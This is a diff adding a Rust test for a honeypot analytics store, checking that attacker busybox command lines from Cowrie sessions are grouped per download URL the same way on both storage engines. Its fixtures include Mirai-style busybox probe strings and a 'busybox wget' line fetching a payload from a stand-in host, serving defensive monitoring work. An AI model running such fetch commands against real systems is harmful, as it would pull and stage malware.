@@ -456,3 +456,67 @@ fn decoy_activity_counts_ranks_and_lists_the_same_on_both_engines() {
     assert_eq!(one.attackers[0].src_ip, "192.0.2.1");
     assert_eq!(one.recent.len(), 2);
 }
+
+#[test]
+fn busybox_lines_are_listed_per_download_url_the_same_on_both_engines() {
+    use serde_json::json;
+    let got = same_on_each(|s| {
+        let cmd = |sess: &str, line: &str| {
+            record_with(
+                sess,
+                "cowrie.command.input",
+                "192.0.2.1",
+                "2026-12-01T10:00:00.000000Z",
+                json!({"input": line}),
+            )
+        };
+        let url = "http://198.51.100.7/x.sh";
+        s.decoy_add_events(&[
+            cmd("aaaaaaaaaaaa", "/bin/busybox ECCHI"),
+            cmd("aaaaaaaaaaaa", "cd /tmp"),
+            cmd("aaaaaaaaaaaa", "/bin/busybox ECCHI"),
+            event(
+                "aaaaaaaaaaaa",
+                "cowrie.session.file_download",
+                "192.0.2.1",
+                "2026-12-01T10:00:01.000000Z",
+                Some(url),
+            ),
+            cmd("bbbbbbbbbbbb", "/bin/busybox SORA"),
+            cmd("bbbbbbbbbbbb", "busybox wget http://198.51.100.8/y"),
+            event(
+                "bbbbbbbbbbbb",
+                "cowrie.session.file_download",
+                "192.0.2.1",
+                "2026-12-01T10:00:02.000000Z",
+                Some(url),
+            ),
+            // a session with a probe but no download lists nothing
+            cmd("cccccccccccc", "/bin/busybox MASUTA"),
+            // a download from a session without busybox lines: no entry
+            event(
+                "dddddddddddd",
+                "cowrie.session.file_download",
+                "192.0.2.2",
+                "2026-12-01T10:00:03.000000Z",
+                Some("http://198.51.100.9/z"),
+            ),
+        ])
+        .expect("add");
+        (
+            s.decoy_url_busybox_lines(64).expect("lines"),
+            s.decoy_url_busybox_lines(1).expect("one"),
+        )
+    });
+    let (all, one) = got;
+    assert_eq!(all.len(), 1, "{all:?}");
+    assert_eq!(
+        all["http://198.51.100.7/x.sh"],
+        [
+            "/bin/busybox ECCHI",
+            "/bin/busybox SORA",
+            "busybox wget http://198.51.100.8/y"
+        ]
+    );
+    assert_eq!(one["http://198.51.100.7/x.sh"], ["/bin/busybox ECCHI"]);
+}
